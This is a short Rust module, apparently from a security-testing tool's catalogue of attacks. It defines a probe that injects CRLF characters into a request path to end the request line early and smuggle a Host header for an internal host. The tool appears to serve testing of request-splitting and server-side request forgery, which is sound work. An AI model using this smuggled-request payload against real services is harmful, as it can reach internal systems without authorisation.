//! Asks for a path that ends the line.

use crate::ways::*;

use crate::attack::*;

crate::attack! {
    async fn call(to: String) -> Result<String> {
        absolute2(&to, "/ HTTP/1.1\r\nhost: internal.example\r\n\r\n")
    }
}
